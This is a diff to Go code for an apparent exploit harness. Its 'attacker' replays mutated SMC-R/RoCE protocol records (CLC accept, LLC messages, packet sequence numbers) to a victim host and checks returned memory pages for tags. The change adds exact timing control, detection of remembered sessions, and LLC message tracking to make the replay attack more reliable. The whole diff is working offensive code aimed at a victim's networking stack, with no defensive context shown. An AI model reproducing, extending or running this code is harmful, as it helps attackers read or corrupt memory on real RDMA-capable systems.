@@ -125,7 +125,12 @@ func (a *attacker) replay(limit time.Duration) {
 		if n%10 > 0 {
 			records = a.mutate(records)
 		}
-		page = a.again(s, records)
+		var known bool
+		page, known = a.again(s, records, n%10 == 0)
+		if known { // its queue was full when the link of the session before was to end
+			n--
+			continue
+		}
 		took := page != nil && (*(*[4]byte)(page[s.element+wtagAt:])) != [4]byte{}
 		switch {
 		case took:
@@ -141,8 +146,9 @@ func (a *attacker) replay(limit time.Duration) {
 	}
 }
 
-// again says the records to the victim; it returns the heads of the memory that it told of.
-func (a *attacker) again(s session, records []record) (page []byte) {
+// again says the records to the victim; it returns the heads of the memory that it told of. exact: each when it is its turn, however
+// long the victim takes. known: the victim remembers the session before, to which these records do not belong.
+func (a *attacker) again(s session, records []record, exact bool) (page []byte, known bool) {
 	fd := must(unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0))
 	defer unix.Close(fd)
 	o, ok := a.reg.offer(fd, a.gid)
@@ -160,17 +166,21 @@ func (a *attacker) again(s session, records []record) (page []byte) {
 	c := &conn{a: a, fd: fd, victim: a.qp.peer.GID}
 	psn := s.psn
 	var heard []byte
+	asked := false
 	listen := func(limit time.Duration, enough func() bool) {
-		for end := time.Now().Add(limit); !enough() && time.Now().Before(end); time.Sleep(50 * time.Microsecond) {
+		if exact {
+			limit = patience
+		}
+		for end := time.Now().Add(limit); !enough() && !known && time.Now().Before(end); time.Sleep(50 * time.Microsecond) {
 			var b [4096]byte
 			if n, _, _ := unix.Recvfrom(fd, b[:], unix.MSG_DONTWAIT); n > 0 {
 				heard = append(heard, b[:n]...)
 			}
 			var acc clc.Accept
 			if n, err := engine.Need(heard); err == nil && n <= len(heard) && acc.Decode(heard[:n]) == nil {
-				a.qp.peer.QPN = acc.QPN
+				a.qp.peer.QPN, known = acc.QPN, known || exact && !acc.FirstContact
 			}
-			drain(a.dgram)
+			asked = drain(a.dgram) || asked
 		}
 	}
 	for _, r := range records {
@@ -184,7 +194,7 @@ func (a *attacker) again(s session, records []record) (page []byte) {
 				listen(10*time.Millisecond, func() bool { return len(heard) >= clc.Size })
 			}
 		case "llc":
-			listen(2*time.Millisecond, func() bool { return false }) // the request that this answers
+			listen(2*time.Millisecond, func() bool { return asked && exact }) // the request that this answers
 			h = binary.LittleEndian.AppendUint64(h, uint64(psn&roce.PSNMask))
 			a.send(c.victim, 3, append(h, r.b...))
 			psn = psn.Next()
@@ -209,19 +219,21 @@ func (a *attacker) again(s session, records []record) (page []byte) {
 		}
 	}
 	a.goneFrom(s.qpn, c.victim)
+	exact = false
 	listen(5*time.Millisecond, func() bool { return false }) // TCP might overtake it
-	return page
+	return page, known
 }
 
-// drain throws away what the victim's engine says.
-func drain(fd int) {
+// drain throws away what the victim's engine says. true: there was an LLC message.
+func drain(fd int) (llc bool) {
 	var b [16]byte
 	oob := make([]byte, 64)
 	for {
 		_, n, _, _, err := unix.Recvmsg(fd, b[:], oob, unix.MSG_DONTWAIT|unix.MSG_CMSG_CLOEXEC)
 		if err != nil {
-			return
+			return llc
 		}
+		llc = llc || b[0] == 3
 		msgs, _ := unix.ParseSocketControlMessage(oob[:n])
 		for i := range msgs {
 			fds, _ := unix.ParseUnixRights(&msgs[i])
